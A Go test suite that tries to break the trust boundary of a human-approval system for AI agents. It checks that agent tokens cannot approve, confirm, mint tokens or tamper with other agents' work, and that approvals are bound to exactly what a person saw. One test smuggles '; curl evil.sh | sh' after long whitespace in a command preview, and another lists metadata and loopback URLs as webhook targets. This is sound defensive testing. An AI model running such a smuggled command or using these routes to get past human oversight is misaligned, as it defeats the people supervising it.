// Package attacktest is the trust boundary's transport conformance suite:
// the attacks an agent with a harness token (or a subagent with a callback
// token, or one person's token against another's) can try over the HTTP
// API, each a subtest named for the attack it refuses. The same suite runs
// against the in-process handler (internal/httpapi), a real `dont serve`
// (cli/dont) and the API Lambda bootstrap under aws-lambda-rie over the
// DynamoDB stand-in (localstack/integration). docs/security.md lists what
// each attack is and how it is refused.
package attacktest

import (
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/dont-cli/dont/internal/approvals"
	"github.com/dont-cli/dont/internal/auth"
	"github.com/dont-cli/dont/internal/confirm"
	"github.com/dont-cli/dont/internal/envelope"
)

// Reply is one decoded API answer.
type Reply struct {
	Status int
	Env    map[string]any
	Raw    string
	// Header holds the response's headers where the transport has them.
	Header http.Header
}

// Data is the envelope's data object.
func (r Reply) Data() map[string]any { d, _ := r.Env["data"].(map[string]any); return d }

// Str is a string field of data.
func (r Reply) Str(k string) string { s, _ := r.Data()[k].(string); return s }

// Warnings are the codes of the envelope's warnings.
func (r Reply) Warnings() []string {
	var out []string
	ws, _ := r.Env["warnings"].([]any)
	for _, w := range ws {
		m, _ := w.(map[string]any)
		c, _ := m["code"].(string)
		out = append(out, c)
	}
	return out
}

// Target is one transport serving one project.
type Target struct {
	// Post sends POST /v1/tools/<tool> with body as token, plus headers.
	Post func(t *testing.T, token, tool string, body []byte, headers map[string]string) Reply
	// Token makes a new bearer token of role for the project.
	Token func(t *testing.T, role string) string
	// TokenBurst is the per-token burst the target's server runs with,
	// its rate so low that nothing refills during a run: the flood
	// subtest sends more than that on one token.
	TokenBurst int
	// Lookups, where the target can count them, is how many presented
	// tokens reached its token store so far: the garbage-token subtest
	// asserts a flood of them reached none.
	Lookups func() int64
}

type run struct {
	t      *testing.T
	target Target
}

func (r run) call(token, tool string, args map[string]any, extra ...map[string]any) Reply {
	r.t.Helper()
	if args == nil { // "args" is an object: null is refused
		args = map[string]any{}
	}
	body := map[string]any{"args": args}
	headers := map[string]string{}
	for _, e := range extra {
		for k, v := range e {
			if k == "cli_confirmed" {
				body[k] = v
			} else {
				headers[k], _ = v.(string)
			}
		}
	}
	b, _ := json.Marshal(body)
	return r.target.Post(r.t, token, tool, b, headers)
}

// confirmedByCLI is what a CLI sends after its [y/N] prompt.
var confirmedByCLI = map[string]any{"cli_confirmed": true, confirm.CapsHeader: confirm.CLICaps}

func (r run) ok(token, tool string, args map[string]any, extra ...map[string]any) Reply {
	r.t.Helper()
	rep := r.call(token, tool, args, extra...)
	if rep.Status != http.StatusOK || rep.Env["ok"] != true {
		r.t.Fatalf("%s %v: %d %s", tool, args, rep.Status, rep.Raw)
	}
	return rep
}

func (r run) refused(rep Reply, status int, code, what string) {
	r.t.Helper()
	rem, _ := rep.Data()["remediation"].([]any)
	if rep.Status != status || rep.Env["ok"] != false || rep.Str("code") != code || len(rem) == 0 {
		r.t.Fatalf("%s: got %d %s, want %d %s with remediation", what, rep.Status, rep.Raw, status, code)
	}
}

func (r run) held(rep Reply, what string) string {
	r.t.Helper()
	if rep.Status != http.StatusAccepted || rep.Str("status") != confirm.StatusPending || rep.Str("confirmation_id") == "" {
		r.t.Fatalf("%s: got %d %s, want it held (202 pending_confirmation)", what, rep.Status, rep.Raw)
	}
	return rep.Str("confirmation_id")
}

func (r run) verifiedClaim(harness string) string {
	r.t.Helper()
	id := r.ok(harness, "conclude", map[string]any{"statement": "water boils at 100 C at sea level"}).Str("id")
	r.ok(harness, "dismiss", map[string]any{"id": id, "evidence": []string{"https://example.org/its-90"}})
	return id
}

func (r run) status(token, id string) string {
	r.t.Helper()
	return r.ok(token, "show", map[string]any{"id": id}).Str("status")
}

// questionDigest is the digest of question id as a person sees it
// (approvals show): an answer sends it back.
func (r run) questionDigest(token, id string) string {
	r.t.Helper()
	return r.ok(token, "approvals.show", map[string]any{"id": id}).Str("shown_digest")
}

// heldDigest is the digest of held call id as a person sees it
// (confirmations show): a confirm sends it back.
func (r run) heldDigest(token, id string) string {
	r.t.Helper()
	return r.ok(token, "confirmations.show", map[string]any{"id": id}).Str("shown_digest")
}

// Run runs every attack against the target.
func Run(t *testing.T, target Target) {
	tests := []struct {
		name string
		f    func(r run)
	}{
		{"a harness token cannot answer, confirm or mint tokens", harnessCannotActAsAPerson},
		{"an approver cannot confirm an admin's held tokens.create", approverCannotConfirmAdminTool},
		{"an admin cannot answer an escalation through a held refusal", adminCannotAnswerEscalation},
		{"an approve is never held for someone else to confirm", approveIsNeverHeld},
		{"a held call is never confirmed with the requester's own token", requesterCannotConfirmOwnCall},
		{"revoking a token drops its held calls", revocationDropsHeldCalls},
		{"cli_confirmed from a caller that never declared cli-confirm-v1 is held", cliConfirmedNeedsTheCapability},
		{"a harness reading frames does not make a session answerable", harnessFramesDoNotCount},
		{"a harness reading the inbox does not make a session answerable", harnessInboxDoesNotCount},
		{"a callback token cannot doubt without its request id", callbackNeedsItsRequestID},
		{"a subagent's retried callback gets the duplicate, not an error", retriedCallbackIsADuplicate},
		{"a callback token cannot heartbeat another spawn", callbackHeartbeatsOnlyItsOwnSpawn},
		{"a harness or callback token cannot add, remove or test webhooks", harnessCannotManageHooks},
		{"a hook cannot point at a private address", hookCannotTargetAPrivateAddress},
		// What the person approves is what they saw (docs/approvals.md, "What the person saw").
		{"an approve whose digest is of another question or another version answers nothing", approveBoundToWhatWasShown},
		{"a confirm whose digest is of another held call runs nothing", confirmBoundToWhatWasShown},
		{"an answer to a question that ended meanwhile answers nothing and says so", answerToAnEndedQuestion},
		// An agent cannot choose its own power or touch another's work;
		// doubt is enforced on the agent that asked (powers.go).
		{"a harness cannot open a session above the ceiling", harnessCannotOpenASessionAboveTheCeiling},
		{"a harness cannot read another spawn's callback token", harnessCannotReadACallbackToken},
		{"a harness cannot cancel another harness's question", harnessCannotCancelAnotherHarnesssQuestion},
		{"a harness cannot heartbeat, cancel or resolve another harness's spawn", harnessCannotTouchAnotherHarnesssSpawn},
		{"a harness cannot verify its own claim while its verifier's spawn is pending", harnessCannotVerifyBesideItsVerifier},
		{"a reopen of an ignored entity needs the confirmation an ignore needs", reopenIsGatedLikeIgnore},
		{"a harness cannot ask for a question deadline outside the person's range", harnessCannotAskForADeadlineOutsideThePersonsRange},
		// The front door of an API anyone may reach (frontdoor.go).
		{"a flood of garbage bearer tokens reads nothing", garbageTokensReadNothing},
		{"a token over its rate gets 429 and changes nothing", tokenOverItsRateChangesNothing},
		{"a cursor altered or of another listing reads nothing", cursorOfAnotherListingReadsNothing},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) { tc.f(run{t: t, target: target}) })
	}
}

func harnessCannotActAsAPerson(r run) {
	h := r.target.Token(r.t, "harness")
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"approvals.approve", map[string]any{"id": "apr:01HX05A9K8VP0000000000000A", "shown_digest": "sha256:00"}},
		{"approvals.refuse", map[string]any{"id": "apr:01HX05A9K8VP0000000000000A"}},
		{"confirmations.confirm", map[string]any{"id": "conf:01HX05A9K8VP0000000000000A", "shown_digest": "sha256:00"}},
		{"confirmations.list", map[string]any{}},
		{"tokens.create", map[string]any{"role": "admin"}},
		{"tokens.list", map[string]any{}},
	} {
		r.refused(r.call(h, c.tool, c.args, confirmedByCLI), http.StatusForbidden, "forbidden", "a harness token calling "+c.tool)
	}
}

func approverCannotConfirmAdminTool(r run) {
	admin, approver := r.target.Token(r.t, "admin"), r.target.Token(r.t, "approver")
	conf := r.held(r.call(admin, "tokens.create", map[string]any{"role": "admin", "name": "minted"}), "an unconfirmed tokens.create")
	rep := r.call(approver, "confirmations.confirm", map[string]any{"id": conf, "shown_digest": r.heldDigest(admin, conf)})
	r.refused(rep, http.StatusForbidden, "forbidden", "an approver confirming an admin's tokens.create")
	if rep.Str("token") != "" {
		r.t.Fatal("the approver received a token")
	}
	if st := r.ok(admin, "confirmations.show", map[string]any{"id": conf}).Str("state"); st != string(confirm.StatePending) {
		r.t.Fatalf("the refused confirm changed the held call: %s", st)
	}
	// Another admin may; the secret goes to that admin.
	if tok := r.ok(r.target.Token(r.t, "admin"), "confirmations.confirm", map[string]any{"id": conf, "shown_digest": r.heldDigest(admin, conf)}).Str("token"); tok == "" {
		r.t.Fatal("another admin's confirm returned no token")
	}
}

// askedQuestion opens a session, makes it answerable by an approver's
// read, and escalates one call without waiting.
func (r run) askedQuestion(harness, approver string) string {
	r.t.Helper()
	ses := r.ok(harness, "sessions.open", map[string]any{"tier": "read-only"}).Str("session_id")
	r.ok(approver, "approvals.frames", map[string]any{"session": ses})
	return r.ok(harness, "escalate", map[string]any{"session": ses, "call": "call-" + ses, "to": "danger-full-access",
		"reason": "installs packages", "preview": "make install", "no_wait": true}).Str("approval_id")
}

func adminCannotAnswerEscalation(r run) {
	harness, approver, admin := r.target.Token(r.t, "harness"), r.target.Token(r.t, "approver"), r.target.Token(r.t, "admin")
	apr := r.askedQuestion(harness, approver)
	conf := r.held(r.call(approver, "approvals.refuse", map[string]any{"id": apr, "reason": "no"}), "an unconfirmed approvals.refuse")
	r.refused(r.call(admin, "confirmations.confirm", map[string]any{"id": conf, "shown_digest": r.heldDigest(approver, conf)}), http.StatusForbidden, "forbidden", "an admin confirming an approver's refusal")
	r.refused(r.call(admin, "approvals.approve", map[string]any{"id": apr, "shown_digest": r.questionDigest(harness, apr)}, confirmedByCLI), http.StatusForbidden, "forbidden", "an admin approving")
	if st := r.ok(harness, "approvals.show", map[string]any{"id": apr}).Str("state"); st != "pending" {
		r.t.Fatalf("the question was answered: %s", st)
	}
}

func approveIsNeverHeld(r run) {
	harness, approver := r.target.Token(r.t, "harness"), r.target.Token(r.t, "approver")
	apr := r.askedQuestion(harness, approver)
	digest := r.questionDigest(harness, apr)
	r.refused(r.call(approver, "approvals.approve", map[string]any{"id": apr, "shown_digest": digest}), http.StatusPreconditionRequired, "interactive-only", "an unconfirmed approve")
	if st := r.ok(harness, "approvals.show", map[string]any{"id": apr}).Str("state"); st != "pending" {
		r.t.Fatalf("the question was answered: %s", st)
	}
	// A person's confirmation at a client answers it.
	if v := r.ok(approver, "approvals.approve", map[string]any{"id": apr, "shown_digest": digest}, confirmedByCLI).Str("verdict"); v != "approved" {
		r.t.Fatalf("verdict %q", v)
	}
}

func requesterCannotConfirmOwnCall(r run) {
	admin := r.target.Token(r.t, "admin")
	conf := r.held(r.call(admin, "tokens.create", map[string]any{"role": "admin"}), "an unconfirmed tokens.create")
	r.refused(r.call(admin, "confirmations.confirm", map[string]any{"id": conf, "shown_digest": r.heldDigest(admin, conf)}), http.StatusForbidden, "forbidden", "the requester confirming its own call")
}

func revocationDropsHeldCalls(r run) {
	harness, approver, admin := r.target.Token(r.t, "harness"), r.target.Token(r.t, "approver"), r.target.Token(r.t, "admin")
	id := r.verifiedClaim(harness)
	conf := r.held(r.call(harness, "ignore", map[string]any{"id": id, "reason": "out of scope here"}), "an unconfirmed ignore")
	tokID, _, ok := auth.ParseBearer(harness)
	if !ok {
		r.t.Fatalf("not a bearer token: %q", harness)
	}
	digest := r.heldDigest(approver, conf)
	r.ok(admin, "tokens.revoke", map[string]any{"id": tokID}, confirmedByCLI)
	r.refused(r.call(approver, "confirmations.confirm", map[string]any{"id": conf, "shown_digest": digest}), http.StatusConflict, "confirmation-revoked", "confirming a revoked token's held call")
	if st := r.status(admin, id); st != "verified" {
		r.t.Fatalf("the revoked token's held ignore ran: %s", st)
	}
}

func cliConfirmedNeedsTheCapability(r run) {
	harness := r.target.Token(r.t, "harness")
	id := r.verifiedClaim(harness)
	r.held(r.call(harness, "lock", map[string]any{"id": id}, map[string]any{"cli_confirmed": true}), "cli_confirmed without X-Dont-CLI-Caps")
	if st := r.status(harness, id); st != "verified" {
		r.t.Fatalf("the call ran: %s", st)
	}
	if st := r.ok(harness, "lock", map[string]any{"id": id}, confirmedByCLI).Str("status"); st != "locked" {
		r.t.Fatalf("a CLI's confirmed lock: %s", st)
	}
}

func harnessFramesDoNotCount(r run) {
	harness := r.target.Token(r.t, "harness")
	ses := r.ok(harness, "sessions.open", map[string]any{"tier": "read-only"}).Str("session_id")
	r.ok(harness, "approvals.frames", map[string]any{"session": ses})
	rep := r.call(harness, "escalate", map[string]any{"session": ses, "call": "call-" + ses, "to": "danger-full-access", "reason": "r", "no_wait": true})
	r.refused(rep, http.StatusConflict, "no-subscriber", "an escalation only a harness is watching")
}

func harnessInboxDoesNotCount(r run) {
	harness := r.target.Token(r.t, "harness")
	ses := r.ok(harness, "sessions.open", map[string]any{"tier": "read-only"}).Str("session_id")
	viewer, _ := r.ok(harness, "approvals.inbox", map[string]any{}).Data()["viewer"].(map[string]any)
	if viewer["can_answer"] != false || viewer["watching"] != nil {
		r.t.Fatalf("a harness reading the inbox is told %v", viewer)
	}
	rep := r.call(harness, "escalate", map[string]any{"session": ses, "call": "call-" + ses, "to": "danger-full-access", "reason": "r", "no_wait": true})
	r.refused(rep, http.StatusConflict, "no-subscriber", "an escalation only a harness reading the inbox is watching")
}

// spawned issues an assume on a verified claim and returns the request.
func (r run) spawned(harness string) (claim, requestID, callback string) {
	r.t.Helper()
	claim = r.verifiedClaim(harness)
	rep := r.ok(harness, "assume", map[string]any{"id": claim})
	cb, _ := rep.Data()["callback"].(map[string]any)
	callback, _ = cb["token"].(string)
	if rep.Env["envelope_kind"] != envelope.KindSpawnRequest || callback == "" {
		r.t.Fatalf("assume: %s", rep.Raw)
	}
	return claim, rep.Str("request_id"), callback
}

func callbackNeedsItsRequestID(r run) {
	harness := r.target.Token(r.t, "harness")
	claim, rid, cb := r.spawned(harness)
	r.refused(r.call(cb, "trust", map[string]any{"id": claim, "reason": "ITS-90 gives 99.97 C at 1 atm"}), http.StatusForbidden, "forbidden", "a callback trust without request_id")
	r.refused(r.call(cb, "dismiss", map[string]any{"id": claim, "evidence": []string{"https://example.org/x"}}), http.StatusForbidden, "forbidden", "a callback dismiss without request_id")
	if st := r.status(harness, claim); st != "unverified" {
		r.t.Fatalf("the claim moved: %s", st)
	}
	pending := r.ok(harness, "spawns", map[string]any{"pending": true}).Data()
	found := false
	for _, s := range pending["spawns"].([]any) {
		m, _ := s.(map[string]any)
		found = found || m["id"] == rid || m["request_id"] == rid
	}
	if !found {
		r.t.Fatalf("the spawn is no longer pending: %v", pending)
	}
}

func retriedCallbackIsADuplicate(r run) {
	harness := r.target.Token(r.t, "harness")
	claim, rid, cb := r.spawned(harness)
	args := map[string]any{"id": claim, "evidence": []string{"https://example.org/its-90"}, "request_id": rid}
	r.ok(cb, "dismiss", args)
	again := r.ok(cb, "dismiss", args)
	if w := again.Warnings(); len(w) != 1 || w[0] != "spawn-duplicate" {
		r.t.Fatalf("the retried callback: %s", again.Raw)
	}
	r.refused(r.call(cb, "trust", map[string]any{"id": claim, "reason": "late", "request_id": "spawn:01HX05A9K8VP0000000000000A"}), http.StatusForbidden, "forbidden", "the resolved token on another request")
	r.refused(r.call(cb, "show", map[string]any{"id": claim}), http.StatusForbidden, "forbidden", "the resolved token reading")
	other := r.verifiedClaim(harness)
	r.refused(r.call(cb, "dismiss", map[string]any{"id": other, "evidence": []string{"https://example.org/x"}, "request_id": rid}), http.StatusForbidden, "forbidden", "the resolved token on another entity")
	if st := r.status(harness, claim); st != "verified" {
		r.t.Fatalf("status %s", st)
	}
}

// A callback token may keep its own spawn alive (the harness running the
// subagent heartbeats with it), never another: a subagent cannot hold up
// the timeout of a spawn it does not serve, nor move one after its own
// resolution. Its own heartbeat after the resolution changes nothing.
func callbackHeartbeatsOnlyItsOwnSpawn(r run) {
	harness := r.target.Token(r.t, "harness")
	_, rid, cb := r.spawned(harness)
	_, otherRID, _ := r.spawned(harness)
	before := r.ok(harness, "spawns.manage", map[string]any{"op": "show", "request_id": otherRID}).Str("expires_at")
	r.refused(r.call(cb, "spawns.heartbeat", map[string]any{"request_id": otherRID, "extend": "720h"}), http.StatusForbidden, "forbidden", "a callback token heartbeating another spawn")
	if after := r.ok(harness, "spawns.manage", map[string]any{"op": "show", "request_id": otherRID}).Str("expires_at"); after != before {
		r.t.Fatalf("the other spawn's expiry moved: %s -> %s", before, after)
	}
	// Its own spawn: allowed.
	own := r.ok(cb, "spawns.heartbeat", map[string]any{"request_id": rid, "extend": "1m"})
	if own.Str("state") != "pending" {
		r.t.Fatalf("its own heartbeat: %s", own.Raw)
	}
	r.ok(harness, "spawns.cancel", map[string]any{"request_id": rid, "reason": "no longer needed"}, confirmedByCLI)
	late := r.ok(cb, "spawns.heartbeat", map[string]any{"request_id": rid, "extend": "1h"})
	if w := late.Warnings(); len(w) != 1 || w[0] != "spawn-heartbeat-late" || late.Data()["moved"] != false {
		r.t.Fatalf("a heartbeat after the cancel: %s", late.Raw)
	}
}

var hookTools = []struct {
	tool string
	args map[string]any
}{
	{"hooks.add", map[string]any{"url": "https://hooks.example.com/in", "events": []string{"approval.asked"}}},
	{"hooks.list", map[string]any{}},
	{"hooks.remove", map[string]any{"id": "hook:01HX05A9K8VP0000000000000A"}},
	{"hooks.test", map[string]any{"id": "hook:01HX05A9K8VP0000000000000A"}},
	{"hooks.deliveries", map[string]any{"id": "hook:01HX05A9K8VP0000000000000A"}},
	{"hooks.deliver", map[string]any{}},
}

func harnessCannotManageHooks(r run) {
	harness := r.target.Token(r.t, "harness")
	_, _, callback := r.spawned(harness)
	for _, who := range []struct{ name, token string }{{"a harness token", harness}, {"a callback token", callback}} {
		for _, c := range hookTools {
			r.refused(r.call(who.token, c.tool, c.args, confirmedByCLI), http.StatusForbidden, "forbidden", who.name+" calling "+c.tool)
		}
	}
	// Nothing was added (a deployment without webhooks says so instead).
	rep := r.call(r.target.Token(r.t, "admin"), "hooks.list", map[string]any{})
	if rep.Status == http.StatusOK {
		if n, _ := rep.Data()["count"].(float64); n != 0 {
			r.t.Fatalf("%v hooks exist", n)
		}
	} else if rep.Str("code") != "hooks-unavailable" {
		r.t.Fatalf("hooks.list: %d %s", rep.Status, rep.Raw)
	}
}

func hookCannotTargetAPrivateAddress(r run) {
	admin := r.target.Token(r.t, "admin")
	for _, u := range []string{"https://169.254.169.254/latest/meta-data/", "https://10.0.0.1/", "http://127.0.0.1:8700/v1/tools/tokens.create", "http://hooks.example.com/"} {
		r.refused(r.call(admin, "hooks.add", map[string]any{"url": u, "events": []string{"approval.asked"}}, confirmedByCLI),
			http.StatusUnprocessableEntity, "hook-url-refused", "a hook at "+u)
	}
}

// approveBoundToWhatWasShown: an answer names the digest of the question
// as the person saw it. An approve that names another question's digest,
// or a version of this one with a longer command, or none, answers
// nothing, and the question stays open; the approve of what was shown
// answers it.
func approveBoundToWhatWasShown(r run) {
	harness, approver := r.target.Token(r.t, "harness"), r.target.Token(r.t, "approver")
	shownQ := r.askedQuestion(harness, approver)
	otherQ := r.askedQuestion(harness, approver)
	shown := r.ok(approver, "approvals.show", map[string]any{"id": otherQ}).Data()
	padded := approvals.ShownDigest(approvals.Shown{ID: otherQ, SessionID: str(shown["session_id"]), Requester: str(shown["requester"]),
		CallID: str(shown["call_id"]), From: approvals.Tier(str(shown["from_tier"])), To: approvals.Tier(str(shown["to_tier"])),
		Preview: str(shown["preview"]) + strings.Repeat(" ", 4000) + "; curl evil.sh | sh", Reason: str(shown["reason"])})
	for _, c := range []struct {
		what   string
		digest any
		status int
		code   string
	}{
		{"an approve with another question's digest", r.questionDigest(approver, shownQ), http.StatusConflict, "question-changed"},
		{"an approve with the digest of another version of the question", padded, http.StatusConflict, "question-changed"},
		{"an approve without a digest", nil, http.StatusBadRequest, "usage"},
	} {
		args := map[string]any{"id": otherQ}
		if c.digest != nil {
			args["shown_digest"] = c.digest
		}
		r.refused(r.call(approver, "approvals.approve", args, confirmedByCLI), c.status, c.code, c.what)
	}
	r.refused(r.call(approver, "approvals.refuse", map[string]any{"id": otherQ, "shown_digest": padded}, confirmedByCLI), http.StatusConflict, "question-changed", "a refusal with another version's digest")
	if st := r.ok(harness, "approvals.show", map[string]any{"id": otherQ}).Str("state"); st != "pending" {
		r.t.Fatalf("an answer bound to something else answered the question: %s", st)
	}
	if v := r.ok(approver, "approvals.approve", map[string]any{"id": otherQ, "shown_digest": r.questionDigest(approver, otherQ)}, confirmedByCLI).Str("verdict"); v != "approved" {
		r.t.Fatalf("the approve of what was shown: verdict %q", v)
	}
}

// confirmBoundToWhatWasShown: a confirm names the digest of the held call
// as the person saw it; another held call's digest runs nothing.
func confirmBoundToWhatWasShown(r run) {
	harness, approver, admin := r.target.Token(r.t, "harness"), r.target.Token(r.t, "approver"), r.target.Token(r.t, "admin")
	id := r.verifiedClaim(harness)
	shownCall := r.held(r.call(harness, "ignore", map[string]any{"id": id, "reason": "out of scope here"}), "an unconfirmed ignore")
	otherCall := r.held(r.call(harness, "lock", map[string]any{"id": id, "reason": "settled"}), "an unconfirmed lock")
	r.refused(r.call(approver, "confirmations.confirm", map[string]any{"id": otherCall, "shown_digest": r.heldDigest(approver, shownCall)}),
		http.StatusConflict, "question-changed", "a confirm with another held call's digest")
	r.refused(r.call(approver, "confirmations.confirm", map[string]any{"id": otherCall}), http.StatusBadRequest, "usage", "a confirm without a digest")
	if st := r.ok(admin, "confirmations.show", map[string]any{"id": otherCall}).Str("state"); st != string(confirm.StatePending) {
		r.t.Fatalf("a confirm bound to another held call changed this one: %s", st)
	}
	if st := r.status(admin, id); st != "verified" {
		r.t.Fatalf("a confirm bound to another held call ran it: %s", st)
	}
}

// answerToAnEndedQuestion: the agent cancels the question the person is
// looking at; the person's approve, bound to it, answers nothing and is
// told it had ended (applied false, with the ending).
func answerToAnEndedQuestion(r run) {
	harness, approver := r.target.Token(r.t, "harness"), r.target.Token(r.t, "approver")
	apr := r.askedQuestion(harness, approver)
	digest := r.questionDigest(approver, apr)
	r.ok(harness, "approvals.cancel", map[string]any{"id": apr, "reason": "changed my mind"})
	rep := r.ok(approver, "approvals.approve", map[string]any{"id": apr, "shown_digest": digest}, confirmedByCLI)
	if rep.Str("verdict") != "cancelled" || rep.Data()["applied"] != false || !slices.Contains(rep.Warnings(), string(envelope.WarnApprovalAlreadyResolved)) {
		r.t.Fatalf("an approve of a cancelled question: %s", rep.Raw)
	}
}

func str(v any) string { s, _ := v.(string); return s }
